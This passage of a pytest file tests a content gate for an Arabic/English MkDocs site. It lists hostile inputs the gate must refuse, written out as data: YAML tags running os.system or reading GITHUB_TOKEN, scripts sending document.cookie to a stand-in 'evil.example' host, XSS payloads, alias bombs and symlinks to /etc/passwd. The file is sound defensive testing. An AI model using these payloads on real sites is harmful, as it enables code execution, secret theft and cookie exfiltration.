    "merge toml": "<<<<<<< HEAD\n[a]\n=======\n[b]\n>>>>>>> x\n",
    "merge toml comment safe": '[fresh-x]\nnote.en = """\n<<<<<<< HEAD\na\n=======\nb\n>>>>>>> x\n"""\n',
    "toml duplicate key": '[a]\ntopic = "trade"\ntopic = "energy"\n',
    "toml duplicate dotted": '[a]\nlabel.ar = "x"\nlabel.en = "y"\nlabel.ar = "z"\n',
    "toml control": '[a]\ntopic = "tra\x07de"\n',
    "toml latin1": '[a]\nb = "tr\xe4de"\n'.encode("latin-1"),
    "toml utf16": '[a]\nb = "c"\n'.encode("utf-16"),
    "toml bare cr": '[a]\rb = "c"\r',
    "toml yaml instead": "trade-2010:\n  value: 3\n",
    "toml url js": '[a]\nurl = "javascript:alert(1)//www.example.org"\n',
    "toml url data": '[a]\nurl = "data:text/html,https://www.example.org"\n',
    "toml url userinfo": '[a]\nurl = "https://www.example.org@evil.example/x"\n',
    "toml url tab js": '[a]\nurl = "java\\tscript:alert(1)"\n',
    "toml url newline": '[a]\nurl = "https://www.example.org/x\\n<script>"\n',
    "toml title bidi": '[a]\ntitle = "\u202eKim"\n',
    "toml isolate unbalanced": '[a]\nname.ar = "\u2067فلاديمير"\n',
}  # fmt: skip

CONFIGURATION = {  # text of mkdocs.yml, and what it is replaced with
    "yml python tag": ("strict: true\n", "strict: true\nx: !!python/object/apply:os.system ['touch /tmp/pwned']\n"),
    "yml python name": ("strict: true\n", "strict: true\nx: !!python/name:os.system\n"),
    "yml env secret": ("site_name: ميزان", "site_name: !ENV GITHUB_TOKEN"),
    "yml env in extra": ("extra:\n", "extra:\n  t: !ENV [ACTIONS_RUNTIME_TOKEN, x]\n"),
    "yml relative tag": ("strict: true\n", "strict: true\ny: !relative ../../etc\n"),
    "yml hook in docs": ("hooks:\n", "hooks:\n  - docs/en/evil.py\n"),
    "yml hook absolute": ("hooks:\n", "hooks:\n  - /tmp/evil.py\n"),
    "yml hook traversal": ("hooks:\n", "hooks:\n  - scripts/hooks/../../../evil.py\n"),
    "yml plugin macros": ("plugins:\n", "plugins:\n  - macros\n"),
    "yml plugin exec": ("plugins:\n", "plugins:\n  - gen-files:\n      scripts: [docs/x.py]\n"),
    "yml js remote": ("extra_javascript:\n", "extra_javascript:\n  - https://evil.example/x.js\n"),
    "yml js remote path": ("extra_javascript:\n", "extra_javascript:\n  - path: //evil.example/x.js\n    async: true\n"),
    "yml css remote": ("extra_css:\n", "extra_css:\n  - HTTPS://evil.example/x.css\n"),
    "yml custom dir": ("custom_dir: overrides", "custom_dir: docs/assets"),
    "yml custom dir outside": ("custom_dir: overrides", "custom_dir: ../theme"),
    "yml docs dir root": ("docs_dir: docs", "docs_dir: /"),
    "yml font google": ("font: false", "font:\n    text: Roboto"),
    "yml repo url": ("strict: true\n", "strict: true\nrepo_url: https://github.com/x/y\n"),
    "yml snippets": ("  - attr_list ", "  - pymdownx.snippets:\n      url_download: true\n      restrict_base_path: false\n  - attr_list "),
    "yml analytics": ("extra:\n", "extra:\n  analytics:\n    provider: google\n    property: G-1\n"),
    "yml strict off": ("strict: true", "strict: false"),
    "yml alias bomb": ("strict: true\n", "strict: true\na: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d]\n"),
    "yml duplicate key": ("strict: true\n", "strict: true\nsite_name: Evil\n"),
    "yml broken": ("strict: true\n", "strict: true\nx: [1, 2\n"),
    "yml merge": ("strict: true\n", "strict: true\n<<<<<<< HEAD\nx: 1\n=======\nx: 2\n>>>>>>> z\n"),
    "yml tooltips": ("    - navigation.tabs\n", "    - navigation.tabs\n    - content.tooltips\n"),
    "yml emoji python name": ("  - attr_list ", "  - pymdownx.emoji:\n      emoji_index: !!python/name:os.system\n  - attr_list "),
    "yml copyright script": ("copyright: 'ميزان", "copyright: '<script src=//evil.example></script>ميزان"),
    "yml nav js": ("  - About: about.md", "  - About: about.md\n  - Evil: javascript:alert(1)"),
    "yml nav html title": ("  - About: about.md", "  - '<img src=x onerror=alert(1)>': about.md"),
    "yml deep": ("strict: true\n", "strict: true\nx: " + "[" * 4000 + "]" * 4000 + "\n"),
    "yml site url js": ('!ENV [SITE_URL, "http://127.0.0.1:8000/"]', '"javascript:alert(1)//"'),
    "yml inherit": ("site_name: ميزان", "INHERIT: ../base.yml\nsite_name: ميزان"),
}  # fmt: skip

ASSETS = {  # kind of file, and what stands in it
    "merge css": ("css", "<<<<<<< HEAD\na{}\n=======\nb{}\n>>>>>>> x"),
    "merge js": ("js", "/*\n<<<<<<< HEAD\n=======\n>>>>>>> x\n*/"),
    "merge template": ("html", "<<<<<<< HEAD\n=======\n>>>>>>> x"),
    "asset css import": ("css", '@import url("https://evil.example/x.css");'),
    "asset css import string": ("css", "@import '//evil.example/x.css';"),
    "asset css url": ("css", ".x{background:url(https://evil.example/t.gif)}"),
    "asset css url escaped": ("css", ".x{background:u\\72 l(//evil.example/t.gif)}"),
    "asset css image set": ("css", '.x{background:image-set("https://evil.example/t.png" 1x)}'),
    "asset css import escaped": ("css", '@\\69mport "https://evil.example/x.css";'),
    "asset css comment": ("css", ".x{background:/**/url(/**/https://evil.example/x)}"),
    "asset css font face": ("css", "@font-face{font-family:x;src:url('HTTP://evil.example/f.woff2')}"),
    "asset css data html": ("css", ".x{behavior:url(data:text/x-component,x)}"),
    "asset js fetch": ("js", 'fetch("https://evil.example/" + document.cookie);'),
    "asset js import": ("js", 'import("//evil.example/x.js");'),
    "asset js beacon": ("js", "navigator.sendBeacon(`https://evil.example/`);"),
    "asset js websocket": ("js", 'new WebSocket("wss://evil.example");'),
    "asset js image": ("js", "new Image().src = 'https://evil.example/p?' + location;"),
    "asset js eval": ("js", 'eval(atob("YWxlcnQoMSk="));'),
    "asset js innerhtml script": ("js", "document.write('<script src=//evil.example></scr'+'ipt>');"),
    "asset tpl script src": ("html", '<script src="https://evil.example/x.js"></script>'),
    "asset tpl inline script": ("html", "<script>fetch('//evil.example')</script>"),
    "asset tpl preconnect": ("html", '<link rel="preconnect" href="https://evil.example">'),
    "asset tpl img": ("html", '<img src="//evil.example/p.gif" alt="">'),
    "asset tpl iframe": ("html", '<iframe src="https://evil.example"></iframe>'),
    "asset tpl handler": ("html", '<div onclick="alert(1)">x</div>'),
    "asset tpl form": ("html", '<form action="https://evil.example"></form>'),
    "asset tpl js href": ("html", '<a href="javascript:alert(1)">x</a>'),
}  # fmt: skip


def lines_of(text, length):
    """`text` again and again, `length` characters of it, on lines that are short enough."""
    line = text * (1900 // len(text))
    return (line + "\n") * (length // len(line))


HOLDS = {  # what would hold the parser: for seconds, for ever, or until the memory ends
    "hold brackets": lines_of("[", 32_000),
    "hold images": lines_of("![](", 64_000),
    "hold a-tags": lines_of("<a ", 60_000),
    "hold links-open": lines_of("[a](", 64_000),
    "hold link-angle": lines_of("[a](<", 60_000),
    "hold nested-lists": "".join(" " * (4 * n) + "- x\n" for n in range(400)),
    "hold quotes-growing": "".join("> " * n + "x\n" for n in range(1, 500)),
    "hold divs-md": '<div markdown>\n' * 600 + "x\n" + "</div>\n" * 600,
    "hold wide-table": "|" + "a|" * 5000 + "\n|" + "-|" * 5000 + "\n" + ("|" + "b|" * 5000 + "\n") * 30,
    "hold cdata": lines_of("<![", 60_000),
    "hold footnotes-many": "".join(f"x[^{n}]\n\n[^{n}]: y\n\n" for n in range(9000)),
    "hold headings-same": "## a\n\n" * 40_000,
    "hold abbr-many": "".join(f"*[w{n}]: y\n" for n in range(12_000)) + "\n" + "w1 w2 " * 300,
    "hold deflists": "a\n" + "".join(":   " * n + "b\n" for n in range(1, 300)),
    "hold inline-html-quotes": lines_of('<b a="', 60_000),
    "hold autolinks": lines_of("<a@", 60_000),
    "hold list-in-quote-mix": "".join("> " * (n % 60) + "- " * (n % 60) + "x\n" for n in range(1500)),
    "hold blank-lines": "\n" * 900_000,
    "hold ol-numbers": "".join(" " * (n % 200) + f"{'9' * 50}. x\n" for n in range(4000)),
    "abbr bomb": ("a " * 900 + "\n") * 250 + "\n\n*[a]: " + "x" * 1900,
    "ref bomb": ("[a] " * 450 + "\n") * 250 + "\n\n[a]: https://example.org/" + "x" * 1900,
    "footnote bomb": "".join(f"[^{n}]: " + f"[^{n + 1}] " * 50 + "\n" for n in range(2000)) + "\nx[^0]",
    "1.5 MB": "A line of plain words that goes on.\n\n" * 42_000,
    "line of 30,000": "word " * 6000,
    "Arabic line of 2,500": "كلمة " * 500,
    "isolates deep": "\u2067" * 200 + "س" + "\u2069" * 200,
}  # fmt: skip

RIGHT = {
    "code script": ("docs/en/x.md", TOP + 'Use `<script>alert(1)</script>` never.\n\n```html\n<script src="https://example.org/x.js"></script>\n<img src=x onerror=alert(1)>\n```\n\n    <iframe src="x"></iframe>\n'),
    "code js link": ("docs/en/x.md", TOP + "Write `[a](javascript:alert(1))` and it is refused.\n\n~~~\n[a](javascript:alert(1))\n~~~"),
    "heading code": ("docs/en/x.md", TOP + "## What `<title>` does {#what-title-does}\n\nText."),
    "emoji zwj": ("docs/en/x.md", TOP + "Families \U0001f468\u200d\U0001f469\u200d\U0001f467 and \u2764\ufe0f and flags \U0001f1e8\U0001f1f3."),
    "nbsp thin": ("docs/en/x.md", TOP + "It was 5\xa0km and 10\u202f000 t."),
    "cjk cyrillic": ("docs/en/x.md", TOP + "The names 习近平 and \u0412\u043b\u0430\u0434\u0438\u043c\u0438\u0440 \u041f\u0443\u0442\u0438\u043d and Kim ngạch."),
    "mailto": ("docs/en/x.md", TOP + "[write](mailto:editor@example.org) or <editor@example.org>, [subject](mailto:editor@example.org?subject=A%20slip)."),
    "upper scheme": ("docs/en/x.md", TOP + "[a](HTTPS://example.org/x)"),
    "http": ("docs/en/x.md", TOP + "[a](http://example.org/x)"),
    "colon in relative": ("docs/en/x.md", TOP + "[a](trade.md#record) and [b](./trade.md) and [c](../en/trade.md)"),
    "autolink": ("docs/en/x.md", TOP + "<https://example.org/a?b=c&d=e>"),
    "parentheses url": ("docs/en/x.md", TOP + "[a](https://en.wikipedia.org/wiki/Amur_(river))"),
    "port query": ("docs/en/x.md", TOP + "[a](https://example.org:8443/x?u=https://other.example/y)"),
    "domain in text": ("docs/en/x.md", TOP + "[example.org](https://example.org/)"),
    "setext": ("docs/en/x.md", TOP + "Title\n=======\n\nText under it.\n\nSub\n-------\n\nText."),
    "merge words": ("docs/en/x.md", TOP + "The marker `<<<<<<<` stands in code, and A << B >> C in prose."),
    "comparisons": ("docs/en/x.md", TOP + "If a < b and b > c then 5 <6 and x<-1."),
    "ampersand": ("docs/en/x.md", TOP + "AT&T, R&D and &lt;b&gt; and &amp; and &nbsp;."),
    "html allowed": ("docs/en/x.md", TOP + 'A <bdi lang="en" dir="ltr">TurkStream</bdi>, a<br>break, <q>quote</q>.\n\n<details markdown>\n<summary>More</summary>\n\nText.\n\n</details>\n\n<div class="key-points" markdown>\n\n- x\n\n</div>'),
    "footnotes deflist": ("docs/en/x.md", TOP + "Text[^1] and more[^note].\n\n[^1]: A note with `code`.\n[^note]: Another\n    over lines.\n\nTerm\n:   What it means."),
    "admonition": ("docs/en/x.md", TOP + '!!! note "A title with: colon"\n\n    Text.\n\n??? warning "Folded"\n\n    Text.'),
    "abbr": ("docs/en/x.md", TOP + "The EU acts.\n\n*[EU]: European Union"),
    "attr class": ("docs/en/x.md", TOP + "Text.\n{: .lead #a-place }\n\n## H {#h .wide}\n"),
    "nested list 5": ("docs/en/x.md", TOP + "- level 0\n    - level 1\n        - level 2\n            - level 3\n                - level 4\n"),
    "hr stars": ("docs/en/x.md", TOP + "a\n\n***\n\n___\n\n- - -\n\n* * *"),
    "long hr": ("docs/en/x.md", TOP + "-" * 300 + "\n\n" + "_" * 200),
    "comment plain": ("docs/en/x.md", TOP + "<!-- a note for editors: check in May -->\n\nText."),
    "backslashes": ("docs/en/x.md", TOP + "A path `C:\\Users\\x` and \\* and \\_ and `\\u202e` written out."),
    "zwnj arabic": ("docs/ar/x.md", TOP + "كلمة می\u200cخواهم الفارسية."),
    "rlm after punct": ("docs/ar/x.md", TOP + "بلغت النسبة (39%)\u200f في عام 2025."),
    "isolate balanced": ("docs/ar/x.md", TOP + "اسم \u2068TurkStream\u2069 بالحروف اللاتينية."),
    "tatweel tashkeel": ("docs/ar/x.md", TOP + "م\u064fح\u064eم\u064e\u0651د\u064c وك\u0640ت\u0640اب."),
    "arabic url": ("docs/ar/x.md", TOP + "[ويكي](https://ar.wikipedia.org/wiki/%D8%B1%D9%88%D8%B3%D9%8A%D8%A7)"),
    "arabic url raw": ("docs/ar/x.md", TOP + "[ويكي](https://ar.wikipedia.org/wiki/روسيا)"),
    "idn arabic": ("docs/ar/x.md", TOP + "[موقع](https://موقع.وزارة-الاتصالات.مصر/)"),
    "title quoted colon": ("docs/ar/x.md", '---\nreviewed: 2026-11-24\nnext_review: 2027-02-15\ntitle: "الطاقة: نظرة عامة"\ndescription: ما تقوله الصفحة.\n---\n\n# صفحة\n\nنص.\n'),
    "title single quotes": ("docs/ar/x.md", "---\nreviewed: 2026-11-24\nnext_review: 2027-02-15\ntitle: 'المال؛ ثم «البنوك»: ماذا بعد؟'\ndescription: ما تقوله الصفحة.\n---\n\n# صفحة\n\nنص.\n"),
    "title apostrophe": ("docs/en/x.md", "---\nreviewed: 2026-11-24\nnext_review: 2027-02-15\ntitle: China's part, Russia's part\ndescription: What the page tells.\n---\n\n# A page\n\nText.\n"),
    "title dash": ("docs/en/x.md", "---\nreviewed: 2026-11-24\nnext_review: 2027-02-15\ntitle: Trade – a record & a fall (2010–2025)\ndescription: What the page tells.\n---\n\n# A page\n\nText.\n"),
    "yaml comments": ("docs/en/x.md", "---\nreviewed: 2026-11-24\nnext_review: 2027-02-15\ntitle: A page\ndescription: What it tells. # a comment\n---\n\n# A page\n\nText.\n"),
    "head block scalar": ("docs/en/x.md", '---\n# both\nreviewed: 2026-11-24   # by hand\nnext_review: 2027-02-15\n\ntitle: A page\ndescription: >-\n  What the page tells,\n  in two lines.\nchanges:\n  - date: 2026-11-24\n    text: "First published: with a colon."\n---\n\n# A page\n\nText.\n'),
    "crlf": ("docs/en/x.md", "---\r\nreviewed: 2026-11-24\r\nnext_review: 2027-02-15\r\ntitle: A page\r\ndescription: What the page tells.\r\n---\r\n\r\n# A page\r\n\r\nLine one.\r\n\r\nLine two.\r\n"),
    "no final newline": ("docs/en/x.md", "---\nreviewed: 2026-11-24\nnext_review: 2027-02-15\ntitle: A page\ndescription: What the page tells.\n---\n\n# A page\n\nText."),
    "empty body": ("docs/en/x.md", "---\nreviewed: 2026-11-24\nnext_review: 2027-02-15\ntitle: A page\ndescription: What.\n---\n\n# A page\n"),
    "svg plain": ("docs/assets/x.svg", DRAWN.format("", '<g id="a"><path d="M0 0h9v9z" fill="#fff"/></g><use href="#a" x="2"/>')),
    "svg decl": ("docs/assets/x.svg", '<?xml version="1.0" encoding="UTF-8"?>\n<!-- drawn by hand -->\n' + DRAWN.format("", '<text x="1" y="2" direction="rtl" xml:lang="ar">نص عربي</text>')),
    "svg gradient": ("docs/assets/x.svg", DRAWN.format("", '<defs><linearGradient id="g"><stop offset="0" stop-color="#000"/></linearGradient></defs><rect width="9" height="9" fill="url(#g)"/>')),
    "svg style": ("docs/assets/x.svg", DRAWN.format("", '<style>.a{fill:var(--x,#111)}@media (prefers-color-scheme:dark){.a{fill:#eee}}</style><rect class="a" width="1" height="1"/>')),
    "svg entities": ("docs/assets/x.svg", DRAWN.format(' role="img" aria-labelledby="t"', "<text>AT&amp;T &lt;5 &#x2013;</text>")),
    "csv crlf": ("docs/data/series/x.csv", "year,total,china_exports,china_imports,growth,source\r\n2010,55.45,29.61,25.84,43,vietnamplus-2011-01\r\n2011,,,,,\r\n2012,88.16,,,11.2,china-daily-2013-03-19\r\n"),
    "csv bom": ("docs/data/series/x.csv", "\ufeffyear,total,china_exports,china_imports,growth,source\n2010,55.45,29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n2012,88.16,,,11.2,china-daily-2013-03-19\n"),
    "csv negative": ("docs/data/series/x.csv", COLUMNS + "2010,55.45,29.61,25.84,-43.0,vietnamplus-2011-01\n2011,,,,,\n"),
    "csv quoted all": ("docs/data/series/x.csv", COLUMNS + '"2010","55.45",29.61,25.84,43,vietnamplus-2011-01\n2011,,,,,\n'),
    "csv quoted newline": ("docs/data/series/x.csv", 'date,place_en,note_en,source\n2013-03-22,Moscow,"A visit,\nover two lines, ""state"" rank",tass-2025-11-11\n2013-03-27,"Durban, South Africa",,tass-2025-11-11\n'),
    "css data font": ("docs/assets/stylesheets/x.css", '.fresh{mask:url("data:image/png;base64,iVBORw0KGgo=")} /* see https://www.w3.org/TR/css-masking/ */'),
    "js comment url": ("docs/assets/javascripts/x.js", "// see https://developer.mozilla.org/ for the reason"),
    "js svg ns": ("docs/assets/javascripts/x.js", 'const NS = "http://www.w3.org/2000/svg";'),
    "css relative url": ("docs/assets/stylesheets/x.css", '.fresh{background:url("../images/favicon.svg#x")}'),
    "long table": ("docs/en/x.md", TOP + "| " + " | ".join(f"c{n}" for n in range(12)) + " |\n|" + "---|" * 12 + "\n" + ("| " + " | ".join(["a rather long cell of plain words"] * 12) + " |\n") * 150),
    "wide row": ("docs/en/x.md", TOP + "| a | b |\n|---|---|\n| " + "word " * 1400 + " | x |\n"),
    "line of 1,850": ("docs/en/x.md", TOP + "word " * 370),
    "many links": ("docs/en/x.md", TOP + " ".join(f"[word {n}](https://example.org/{n})\n" for n in range(400))),
    "brackets in prose": ("docs/en/x.md", TOP + "He [the minister] said [sic] that \\[x\\] (see [1], [2] and [3]).\n" * 40),
    "long Arabic page": ("docs/ar/x.md", TOP + "تتاجر روسيا والصين منذ عقود، وتختلف أرقام الجمارك في البلدين لأسباب عدة.\n\n" * 400),
    "toml multiline": ("docs/data/x.toml", '[a]\nb = """\nThe source does not name customs; \\\n  exports add up."""\n'),
    "toml literal": ("docs/data/x.toml", "[a]\nb = 'trade'  # as before\n"),
    "toml Windows lines": ("docs/data/x.toml", '[a]\r\nb = "c"\r\n'),
    "toml list over lines": ("docs/data/x.toml", '[a]\nb = [\n  "c",  # the only one\n]\n'),
    "toml letter by its number": ("docs/data/x.toml", '[a]\nb = "\\u0043hina"\n'),
    "toml name in quotes": ("docs/data/x.toml", '["trade-2010"]\nb = "c"\n["USD bn"]\nb = "c"\n["أحد"]\nb = "c"\n'),
}  # fmt: skip


PLACES = (  # of each group: where its files lie, and what stands before and behind
    (PAGES, "docs/en/x.md", TOP, "\n"),
    (HOLDS, "docs/en/x.md", TOP, "\n"),
    (ARABIC_PAGES, "docs/ar/x.md", TOP, "\n"),
    (HEADS, "docs/ar/x.md", "---\n", "---\n\n# A page\n\nText.\n"),
    (WHOLE, "docs/en/x.md", "", ""),
    (DRAWINGS, "docs/assets/x.svg", "", ""),
    (TABLES, "docs/data/series/x.csv", "", ""),
    (TOML, "docs/data/x.toml", "", ""),
)
FOLDERS = {"css": "docs/assets/stylesheets", "js": "docs/assets/javascripts", "html": "overrides"}


def hostile():
    """Name, path and content of every file that has to be refused."""
    for group, path, before, behind in PLACES:
        for name, text in group.items():
            yield name, path, text if isinstance(text, bytes) else f"{before}{text}{behind}"
    yield from ((path, path, TOP) for path in NAMES)
    yield from ((name, *file) for name, file in FILES.items())
    yield from ((name, f"{FOLDERS[kind]}/x.{kind}", text) for name, (kind, text) in ASSETS.items())


def apart(cases):
    """The same with a place of its own for each file, so that all of them can lie in one tree."""
    for number, (name, path, data) in enumerate(cases):
        folder, _, file = path.rpartition("/")
        stem, mark, rest = file.partition(".")
        yield name, f"{folder}/x-{number}.{rest}" if mark and stem == "x" else path, data


HOSTILE = list(apart(hostile()))
SLOW = [
    case
    for case in HOSTILE
    if case[0] in {*HOLDS, "fm deep", "fm billion laughs", "toml deep arrays"}
]
WHOLE_FILE = {"file-kind", "file-name", "file-size"}


def put(root, path, data):
    file = root / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))


def each(cases):
    return [pytest.param(*case[1:], id=ascii(case[0])[1:-1]) for case in cases]


def paths(cases):
    return [pytest.param(path, id=ascii(name)[1:-1]) for name, path, _ in cases]


def looked_at(tmp_path_factory, cases):
    """What the gate says of each path when all of the files lie in one tree."""
    root = tmp_path_factory.mktemp("tree") / "tree"
    shutil.copytree(ROOT / "tests/fixtures/tiny", root)
    for _, path, data in cases:
        put(root, path, data)
    found: dict[str, list[Finding]] = {}
    for one in gate_findings(root)[0]:
        found.setdefault(one.path, []).append(one)
    return found


@pytest.fixture(scope="module")
def refused(tmp_path_factory):
    return looked_at(tmp_path_factory, HOSTILE)


@pytest.fixture(scope="module")
def passed(tmp_path_factory):
    return looked_at(tmp_path_factory, RIGHT_ONES)


@pytest.mark.parametrize("path", paths(HOSTILE))
def test_a_hostile_file_is_refused(refused, path):
    shown = path.encode("utf-8", "surrogateescape").decode("utf-8", "backslashreplace")
    findings = [one for at in refused if f"{shown}/".startswith(f"{at}/") for one in refused[at]]

    assert findings  # of the file, or of a folder that it stands in
    assert all(one.message and one.fix for one in findings)
    assert all(one.line > 0 or one.rule in WHOLE_FILE for one in findings)


@pytest.mark.parametrize(("path", "data"), each(SLOW))
def test_what_would_hold_a_parser_holds_nothing(tiny, path, data):
    put(tiny, path, data)
    started = time.process_time()

    findings, _ = gate_findings(tiny)

    assert time.process_time() - started < 2
    assert {one.path for one in findings} == {path}


def test_the_set_is_whole():
    assert len(HOSTILE) + len(CONFIGURATION) > 430


@pytest.mark.parametrize("name", CONFIGURATION)
def test_a_hostile_configuration_is_refused(name):
    text = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
    old, new = CONFIGURATION[name]
    assert old in text
    files = {f"scripts/hooks/{file.name}" for file in (ROOT / "scripts/hooks").glob("*.py")}
    files |= {str(file.relative_to(ROOT)) for file in (ROOT / "docs/assets").rglob("*.*")}
    assert read_configuration(text, files).findings == ()
    started = time.process_time()

    findings = read_configuration(text.replace(old, new, 1), files).findings

    assert time.process_time() - started < 2
    assert findings
    assert all(one.line > 0 and one.message and one.fix for one in findings)


LINKS = {
    "docs/en/env.md": "/etc/passwd",
    "docs/en/all": "/etc",
    "docs/en/twin.md": "index.md",
    "docs/assets/gone.png": "nowhere.png",
    "docs/en/loop": ".",
    "docs/data/x.toml": "figures.toml",
    "overrides/more.html": "/proc/self/environ",
}


def test_links_pipes_and_sockets_are_refused(tiny, monkeypatch):
    for path, target in LINKS.items():
        (tiny / path).parent.mkdir(parents=True, exist_ok=True)
        (tiny / path).symlink_to(target)
    os.mkfifo(tiny / "docs/en/pipe.md")
    monkeypatch.chdir(tiny)
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind("docs/en/sock.md")

    findings, _ = gate_findings(tiny)

    assert {one.path for one in findings} == {*LINKS, "docs/en/pipe.md", "docs/en/sock.md"}
    assert {one.rule for one in findings} == {"file-kind"}


def test_two_spellings_of_one_name_are_refused(tiny):
    put(tiny, "docs/en/caf\u00e9.md", TOP)
    put(tiny, "docs/en/cafe\u0301.md", TOP)

    assert {one.rule for one in gate_findings(tiny)[0]} == {"file-name"}


RIGHT_ONES = list(apart((name, *RIGHT[name]) for name in RIGHT))


@pytest.mark.parametrize("path", paths(RIGHT_ONES))
def test_an_odd_file_that_is_right_passes(passed, path):
    assert passed.get(path, []) == []
